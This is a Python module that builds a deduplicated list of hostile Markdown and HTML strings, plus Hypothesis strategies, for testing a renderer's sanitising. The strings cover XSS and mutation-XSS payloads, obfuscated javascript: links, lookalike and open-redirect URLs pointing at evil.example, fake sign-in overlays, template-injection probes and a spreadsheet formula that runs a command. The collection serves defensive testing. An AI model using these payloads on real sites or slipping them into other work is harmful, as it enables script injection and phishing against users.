"""Texts that want to run something, lead somewhere they do not say, or lie over the page.

Our own, family by family, for the renderer's tests and for the browser.
"""

from collections.abc import Iterator
from itertools import product

from hypothesis import settings
from hypothesis import strategies as st

CALL = "alert(1)"
ACT = "window.ran=1"


def _everything() -> Iterator[str]:
    for family in (
        _raw_tags,
        _handlers,
        _mutations,
        _script_addresses,
        _spelled_schemes,
        _other_addresses,
        _misleading_links,
        _broken_attributes,
        _titles,
        _autolinks,
        _references,
        _fences,
        _entities,
        _comments,
        _tables,
        _pictures,
        _controls,
        _unicode,
        _nestings,
        _overlays,
        _leftovers,
    ):
        yield from family()


def _raw_tags() -> Iterator[str]:
    names = (
        "script", "iframe", "object", "embed", "base", "link", "meta", "style", "form", "input", "button", "svg",
        "math", "template", "noscript", "xmp", "plaintext", "textarea", "title", "frameset", "applet", "marquee",
        "video", "audio", "source", "portal", "dialog", "slot", "isindex", "keygen", "select", "body", "html",
    )  # fmt: skip
    for name in names:
        yield f"<{name}>{CALL}</{name}>"
        yield f"<{name.upper()} src=//evil.example/x onload={CALL}>"
    for name in ("script", "iframe", "style", "svg"):
        yield f"< {name}>{CALL}</{name}>"
        yield f"<{name}/x>{CALL}</{name}>"
        yield f"<{name}\n>{CALL}</{name}\n>"
        yield f"text <{name} "
        yield f"<<{name}>{CALL}//<</{name}>"
        yield f"<{name[:3]}<{name}>{name[3:]}>{CALL}</{name}>"
        yield f"**<{name}>**{CALL}**</{name}>**"
    yield "<script src=data:,window.ran=1></script>"
    yield "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>"
    yield "<object data='javascript:alert(1)'></object>"
    yield "<embed src='javascript:alert(1)'>"
    yield "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"
    yield "<base href='https://evil.example/'>"
    yield "<link rel=stylesheet href='https://evil.example/x.css'>"
    yield "<form action='https://evil.example/'><input name=password autofocus onfocus=alert(1)></form>"
    yield "<custom-element onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</custom-element>"


def _handlers() -> Iterator[str]:
    events = (
        "onerror",
        "onload",
        "onclick",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onanimationstart",
        "onpointerrawupdate",
    )
    for event in events:
        yield f"<img src=x {event}={CALL}>"
        yield f"<p {event}='{ACT}'>x</p>"
        yield f'<a href=/ok {event.upper()}="{ACT}">x</a>'
        yield f"<details open {event}={CALL}><summary>x</summary></details>"
        yield f'[x](/ok "t" {event}={CALL})'
        yield f'[x](/ok"{event}={CALL})'
        yield f"`<b {event}={CALL}>`"


def _mutations() -> Iterator[str]:
    image = f"<img src=x onerror={ACT}>"
    for outer in ("svg", "math"):
        for inner in ("style", "title", "desc", "mtext", "mglyph", "annotation-xml", "foreignObject", "noscript"):
            yield f"<{outer}><{inner}>{image}</{inner}></{outer}>"
            yield f"<{outer}></p><{inner}><a id='</{inner}>{image}'>"
    yield f"<noscript><p title='</noscript>{image}'></noscript>"
    yield f"<style><style/>{image}</style>"
    yield f"<xmp><p title='</xmp>{image}'></xmp>"
    yield f"<template><div title='</template>{image}'></template>"
    yield f"<textarea><a title='</textarea>{image}'></textarea>"
    yield f"<title><a title='</title>{image}'></title>"
    yield f"<noframes><p title='</noframes>{image}'></noframes>"
    yield f"<noembed><p title='</noembed>{image}'></noembed>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{image}"
    yield f"<math><mtext><table><mglyph><style><!--</style>{image}-->"
    yield f"<math><mtext><table><mglyph><style><![CDATA[</style>{image}]]>"
    yield f"<svg><p><style><a title='</style>{image}'>"
    yield f"<table><td><svg><desc><table><td></desc>{image}</svg>"
    yield f"<select><template><style></select>{image}</style></template>"
    yield f"<p><svg><![CDATA[><p title=']]>{image}'>"
    yield f"<svg><annotation-xml encoding='text/html'>{image}</annotation-xml></svg>"
    yield "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>"
    yield "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>"
    yield "<math href='javascript:alert(1)'>x</math>"
    yield "<b><p><b></p><a href=javascript:alert(1)>x"


def _script_addresses() -> Iterator[str]:
    addresses = (
        f"javascript:{CALL}",
        f"JAVASCRIPT:{CALL}",
        f"jAvAsCrIpT:{CALL}",
        f"javascript://example.org/%0a{CALL}",
        f"javascript:/*--></title></style></textarea></script>*/{CALL}",
        "vbscript:msgbox(1)",
        "livescript:x",
        "mocha:x",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg/onload=alert(1)>",
        "data:image/png;base64,AAAA",
        "file:///etc/passwd",
        "ftp://example.org/x",
        "blob:https://example.org/1",
        "filesystem:https://example.org/1",
        "view-source:javascript:alert(1)",
        "feed:javascript:alert(1)",
        "jar:https://example.org!/x",
        "intent://x#Intent;scheme=javascript;end",
        "tel:+441632960000",
        "sms:+441632960000",
        "steam://run/1",
        "about:blank",
        "ws://example.org/",
    )
    for address in addresses:
        yield f"[x]({address})"
        yield f"[x](<{address}>)"
        yield f"<{address}>"
        yield f"[x][r]\n\n[r]: {address}"


def _spelled_schemes() -> Iterator[str]:
    spellings = (
        "java\tscript:", "java\nscript:", "java\rscript:", "java\x00script:", "\x01javascript:", "\x1fjavascript:",
        " javascript:", "\u00a0javascript:", "\ufeffjavascript:", "java\u200bscript:", "java\u00adscript:",
        "java\u2028script:", "javascript\u200d:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;",
        "javascript&#x0003A;", "javascript&#0000058", "&#106;avascript:", "&#x6A;avascript:", "&#x6a&#x61vascript:",
        "java&Tab;script:", "java&NewLine;script:", "java&#9;script:", "java&#10;script:", "java&#13;script:",
        "java&#x0a;script:", "&#1;javascript:", "&#0;javascript:", "&zwj;javascript:", "&shy;javascript:",
        "javascript%3A", "%6Aavascript:", "java%0ascript:", "java%00script:", "\\javascript:", "javascript\\:",
        "java\\script:", "ｊａｖａｓｃｒｉｐｔ:", "javascript：", "javaſcript:", "jаvascript:", "\u202ejavascript:",
        "javascript\u2060:",
    )  # fmt: skip
    for spelling in spellings:
        yield f"[x]({spelling}{CALL})"
        yield f"[x](<{spelling}{CALL}>)"


def _other_addresses() -> Iterator[str]:
    addresses = (
        "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example",
        "\\/evil.example", "/\t/evil.example", "/\n/evil.example", "/&Tab;/evil.example", "/&#x200b;/evil.example",
        "/%09/evil.example", "/\u200b/evil.example", "/\ufeff/evil.example", "/%2f/evil.example", "/%5cevil.example",
        "/.//evil.example", "http:evil.example", "http:/evil.example", "http:///evil.example",
        "https:\\\\evil.example", "http://", "https://?", "https:evil.example", "http://evil.example\\@good.example",
        "https://good.example@evil.example", "https://good.example:x@evil.example",
        "https://good.example%40evil.example", "https://ev%69l.example", "https://evil。example",
        "https://evil．example", "https://ｅｖｉｌ.example", "https://evil.example:99999999", "https://[::1]/",
        "https://[evil.example", "https://0x7f.1/", "https://2130706433/", "https://evil.example\u2044path",
        "https://evil.example#@good.example", "https://evil.example?@good.example", 'https://evil.example/"><script>',
        "https://evil.example/'onclick='alert(1)", "https://evil.example/`onclick=`", "https://evil.example/<b>",
        "mailto:", "mailto:a", "mailto:a@b.example?bcc=c@d.example", "mailto:a@b.example?body=x%0aBcc:c@d.example",
        "mailto:a@b.example,c@d.example", 'mailto:"a b"@c.example', "mailto:a%0ab@c.example",
        "mailto:javascript:alert(1)@b.example", "MAILTO:A@B.EXAMPLE", "mailto://evil.example", "#anchor", "?logout",
        "evil", "./evil", "../evil", ".", "",
    )  # fmt: skip
    for address in addresses:
        yield f"[x](<{address}>)"
    for address in ("//evil.example", "https://good.example@evil.example", "/\\evil.example"):
        yield f"[x][r]\n\n[r]: <{address}>"
        yield f"<{address}>"


def _misleading_links() -> Iterator[str]:
    shown = (
        "https://good.example", "good.example", "www.good.example", "HTTPS://GOOD.EXAMPLE", "good.example/login", "",
        "https://evil.example.good.example", "evil.example (good.example)", "evil.example) (good.example",
        "evil.example\u200b", "\u202eelpmaxe.doog", "ｇｏｏｄ.example", "gооd.example", "`good.example`",
        "**good.example**", "<https://good.example>", "![good.example](/x)", "evil.example@good.example",
        "evil.example good.example",
    )  # fmt: skip
    for text in shown:
        yield f"[{text}](https://evil.example/path)"
    yield "[https://good.example](/logout)"
    yield "[peer@good.example](mailto:evil@evil.example)"


def _broken_attributes() -> Iterator[str]:
    for mark, inside in product(
        ("'", '"', "`", "", "&quot;", "&#34;"), (f" onclick={CALL} x=", f"><script>{CALL}</script>", "/onload=")
    ):
        yield f"[x](/ok{mark}{inside}{mark})"
        yield f"[x](</ok{mark}{inside}{mark}>)"
        yield f"<https://ok.example/{mark}{inside}{mark}>"
    yield "[x](/ok\x00onclick=alert(1))"
    yield "<a href=/ok href=javascript:alert(1)>x</a>"
    yield "<a\x0chref=javascript:alert(1)>x</a>"
    yield "<a/href='javascript:alert(1)'>x</a>"
    yield '<a href="javascript:alert(1)"x>x</a>'
    yield "<p style=position:fixed;inset:0>x</p>"
    yield "<p id=content class=page-header>x</p>"


def _titles() -> Iterator[str]:
    insides = (
        '" onmouseover="alert(1)', "' onmouseover='alert(1)", "&quot; onmouseover=&quot;alert(1)",
        "&#34; autofocus &#34;", "</a><script>alert(1)</script>", "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>", "<b>", "a\nb", "</title></style></textarea><img src=x onerror=alert(1)>",
        "&#x202e;txet", "&#0;", '\\" onclick=alert(1)', "`", "a > b",
    )  # fmt: skip
    for inside, (left, right) in product(insides, (('"', '"'), ("'", "'"), ("(", ")"))):
        yield f"[x](/ok {left}{inside}{right})"


def _autolinks() -> Iterator[str]:
    yield '<https://ok.example/"onclick=alert(1)>'
    yield "<https://ok.example/<script>alert(1)</script>>"
    yield "<javascript:alert(1)>"
    yield "<JAVASCRIPT:alert(1)>"
    yield "<java script:alert(1)>"
    yield "<data:text/html,x>"
    yield "<a@b.example?x>"
    yield '<"a"@b.example>'
    yield "<a@b.example onclick=alert(1)>"
    yield "<https://user:pass@evil.example>"
    yield "<x:y>"
    yield "https://ok.example/<script>alert(1)</script>"
    yield 'https://ok.example/"onclick=alert(1)'
    yield "https://ok.example/'onclick='alert(1)"
    yield "https://ok.example\\@evil.example"
    yield "https://good.example@evil.example/"
    yield "javascript://ok.example/%0aalert(1)"
    yield "xhttps://ok.example"
    yield "https://ok.example/&lt;script&gt;alert(1)&lt;/script&gt;"
    yield "https://ok.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
    yield "https://ok.example/%E2%80%AEtxt.exe"
    yield "https://xn--80ak6aa92e.example/"
    yield "https://аррӏе.example/"
    yield "//evil.example www.evil.example evil.example ftp://evil.example mailto:a@b.example"
    yield "[https://ok.example](javascript:alert(1))"
    yield "[<https://good.example>](https://evil.example)"
    yield "[[x](https://a.example)](https://b.example)"


def _references() -> Iterator[str]:
    yield "[x]\n\n[x]: javascript:alert(1)"
    yield "[x][]\n\n[x]: data:text/html,x 'y'"
    yield '[x]\n\n[x]: </ok" onclick=alert(1)>'
    yield "[x]\n\n[x]: /ok '\" onclick=alert(1) \"'"
    yield '[x]\n\n[x]: /ok "\n\n" onclick=alert(1)'
    yield "[x]\n\n[X]: javascript:alert(1)\n[x]: /ok"
    yield "[x]\n\n[\u1e9e]: javascript:alert(1)\n[x]: //evil.example"
    yield "[<script>alert(1)</script>]\n\n[<script>alert(1)</script>]: /ok"
    yield "[__proto__]\n\n[__proto__]: javascript:alert(1)"
    yield "[x]: <javascript:alert(1)>\n[x]"
    yield "> [x]: javascript:alert(1)\n\n[x]"
    yield "[![x]][y]\n\n[y]: javascript:alert(1)"


def _fences() -> Iterator[str]:
    infos = (
        '"onload=alert(1)', "'onload=alert(1)", 'x" onclick="alert(1)', "x'><script>alert(1)</script>", "<script>",
        "&quot;x&quot;", "&#34;onclick=alert(1)", "x y=z", "a/b", "../x", "x\u202ey", "x\x00y", "hljs page-header",
        "x" * 40, "ÄÖ", "{onclick=alert(1)}", "&lt;b&gt;", '\\"x', "language-x",
        "c++ </code></pre><script>alert(1)</script>",
    )  # fmt: skip
    for info, fence in product(infos, ("```", "~~~")):
        yield f"{fence}{info}\n</code></pre><script>{CALL}</script>\n{fence}"
    yield "    </code></pre><script>alert(1)</script>"
    yield "`</code><script>alert(1)</script>`"
    yield "``` `x` </code>\n```"
    yield "```\n</pre><img src=x onerror=alert(1)>"


def _entities() -> Iterator[str]:
    for left, right in (
        ("&lt;", "&gt;"),
        ("&#60;", "&#62;"),
        ("&#x3c;", "&#x3e;"),
        ("&LT;", "&GT;"),
        ("&amp;lt;", "&amp;gt;"),
        ("&#0060", "&#0062"),
        ("\\<", "\\>"),
        ("%3C", "%3E"),
        ("&nvlt;", "&nvgt;"),
        ("＜", "＞"),
        ("‹", "›"),
    ):
        yield f"{left}script{right}{CALL}{left}/script{right}"
        yield f"{left}img src=x onerror={CALL}{right}"
        yield f"[x](/ok{left}script{right})"
    yield "&#x110000; &#xd800; &#0; &#xffff; &#x80; &#-1; &#x; &; &&amp &ampamp; &notit; &NotAThing;"
    yield "&lt&#59;script&gt&#59;alert(1)"


def _comments() -> Iterator[str]:
    for opening, closing in (
        ("<!--", "-->"),
        ("<!--", "--!>"),
        ("<!-->", ""),
        ("<!--->", ""),
        ("<![CDATA[", "]]>"),
        ("<?xml ", "?>"),
        ("<?php ", ">"),
        ("<!DOCTYPE ", ">"),
        ("<!", ">"),
        ("</", ">"),
        ("<!--[if IE]>", "<![endif]-->"),
        ("<%", "%>"),
        ("<![", ""),
    ):
        yield f"{opening}<script>{CALL}</script>{closing}"
        yield f"{opening}{closing}<img src=x onerror={CALL}>"
        yield f"a {opening} b"


def _tables() -> Iterator[str]:
    cells = (
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "`</td></table><script>`",
        "</td></tr></table><img src=x onerror=alert(1)>",
        "\\|",
        "<td onclick=alert(1)>",
    )
    for cell in cells:
        yield f"|{cell}|b|\n|:-:|-:|\n|{cell}|{cell}|"
    for rule in ('|:-:"onclick=alert(1)|', "|:--;--:|", "|-<b>-|", "|-|-|-|"):
        yield f"|a|\n{rule}\n|b|"
    yield "> |a|\n> |-|\n<script>alert(1)</script>"
    yield "- |a|\n  |-|\n  |<select><option>|"


def _pictures() -> Iterator[str]:
    addresses = (
        "https://evil.example/p.gif",
        "javascript:alert(1)",
        "//evil.example/p.gif",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "/p.gif",
        'x" onerror="alert(1)',
    )
    for address in addresses:
        yield f"![x](<{address}>)"
        yield f"![]({address})"
        yield f"[![x]({address})](https://evil.example)"
        yield f"![x][r]\n\n[r]: <{address}>"
    yield '![" onerror=alert(1) "](https://evil.example/p.gif)'
    yield "![<img src=x onerror=alert(1)>](https://evil.example/p.gif)"
    yield "![x](https://evil.example/p.gif \"' onerror='alert(1)\")"
    yield "!" * 20 + "[" * 20 + "x" + "](/p.gif)" * 20


def _controls() -> Iterator[str]:
    signs = (
        "\x00",
        "\x01",
        "\x08",
        "\x0b",
        "\x0c",
        "\x1b",
        "\x7f",
        "\x85",
        "\ud800",
        "\udfff",
        "\ufffe",
        "\uffff",
        "\u2028",
        "\u2029",
    )
    for sign in signs:
        yield f"<scr{sign}ipt>{CALL}</scr{sign}ipt>"
        yield f"[x](java{sign}script:{CALL})"
        yield f"{sign}[x]({sign}/{sign}/{sign}evil.example{sign})"
    yield "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07"


def _unicode() -> Iterator[str]:
    yield "a\u202eb\u202dc\u2066d\u2067e\u2068f\u2069g\u202ah\u202bi\u202cj"
    yield "[good.example\u202e](https://evil.example/moc.doog\u202d)"
    yield "x" + "\u0301" * 500
    yield "x" + "&#x301;" * 300
    yield "\u0e47" * 300
    yield "\U000e0041\U000e0042\U000e0043 hidden"
    yield "\U0001f3f4" + "\U000e0067" * 200
    yield "\u200d" * 200 + "a" + "\u200c" * 200
    yield "x" + "\ufe0f" * 200
    yield "x" + "\U000e0100" * 200
    yield "＜script＞alert(1)＜/script＞"
    yield "\u00bcscript\u00bealert(1)\u00bc/script\u00be"
    yield "\u2039img src=x onerror=alert(1)\u203a"
    yield "İ<script>ı</ſcript>"
    yield "<ſcript>alert(1)</ſcript>"
    yield "[x](\u2215\u2215evil.example)"
    yield "[x](／／evil.example)"
    yield "𝗃𝖺𝗏𝖺𝗌𝖼𝗋𝗂𝗉𝗍:alert(1)"
    yield "\ufdfa" * 200 + "\ud83d" + "\ude00"


def _nestings() -> Iterator[str]:
    yield "[" * 400 + "x" + "](/a)" * 400
    yield "*" * 700 + "x"
    yield "".join("*_"[index % 2] for index in range(700)) + "x"
    yield "**a " * 190 + "b** " * 190
    yield "~~" * 300 + "x" + "~~" * 90
    yield "`" * 500 + "x" + "`" * 300
    yield "> " * 6 + "<script>alert(1)</script>"
    yield "- " * 6 + "[x](javascript:alert(1))"
    yield "<div>" * 300
    yield "</p>" * 300
    yield "<a " * 400
    yield "<![" * 400
    yield "# " * 6 + "<script>alert(1)</script>"
    yield "[*[*[*[*x*](/a)*](/b)*](/c)*](/d)"
    yield "**[a**](/b) *[c*](/d) ~~[e~~](/f) `[g`](/h)"
    yield "[a](/b)[c](/d)" * 100


def _overlays() -> Iterator[str]:
    yield '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Please sign in again</div>'
    yield "<dialog open>Please sign in again</dialog>"
    yield "<p popover id=p>x</p><button popovertarget=p>x</button>"
    yield "<style>*{display:none}</style>"
    yield "<style>@import url(https://evil.example/x.css);</style>"
    yield "<link rel=prefetch href=https://evil.example/>"
    yield "<input type=password name=password>"
    yield "<a target=_top href=https://evil.example ping=https://evil.example/p>x</a>"
    yield "<a name=forms></a><form name=body></form>"
    yield "<img name=getElementById>"
    yield "<area href=javascript:alert(1) shape=default>"
    yield "<map name=m><area shape=rect coords=0,0,9999,9999 href=https://evil.example></map>"
    yield "x" * 5_000
    yield "\u2003" * 300 + "x"


def _leftovers() -> Iterator[str]:
    yield "';alert(1)//\\';alert(1)//\";alert(1)//--></script>\">'><script>alert(1)</script>"
    yield "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)} {% raw %} <%= 1 %>"
    yield "{{ config }} {{ ''.__class__.__mro__ }}"
    yield "\">'>`><svg/onload=alert(1)>"
    yield "</body></html><script>alert(1)</script>"
    yield "=cmd|' /C calc'!A0"
    yield "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "<a href=\"/ok\">x</a><a href='javascript:alert(1)'>y</a>"
    yield "<p><strong><em>allowed tags, but typed</em></strong></p>"
    yield "\\<script>alert(1)\\</script>"
    yield "[x](/ok)<!-- -->[y](javascript:alert(1))"
    yield '[x](/ok "a")"onclick=alert(1)'
    yield "1. <script>\n2. alert(1)\n3. </script>"
    yield "Setext <script>\n===\n\nalert(1)</script>\n---"
    yield "***<img src=x onerror=alert(1)>***"
    yield "line  \n<script>alert(1)</script>  \nline"


HOSTILE: list[str] = list(dict.fromkeys(_everything()))
"""Every text once, in a fixed order."""

unhurried = settings(deadline=None)
"""For properties: how long one example takes says nothing on a busy machine."""

MARKS = st.text(alphabet="ab \n*_~`[]()<>&|-+1.#:\\/'\"!=é\t\u200d\u202e\x00", max_size=120)
FRAGMENTS = st.lists(st.sampled_from(HOSTILE), max_size=6).map("".join)
SPLICED = st.tuples(st.sampled_from(HOSTILE), st.sampled_from(HOSTILE), st.integers(0, 60)).map(
    lambda parts: parts[0][: parts[2]] + parts[1] + parts[0][parts[2] :]
)
ANY_TEXT = st.one_of(st.text(), MARKS, FRAGMENTS, SPLICED)
"""Texts by chance: any at all, made of marks, and made of the hostile ones."""
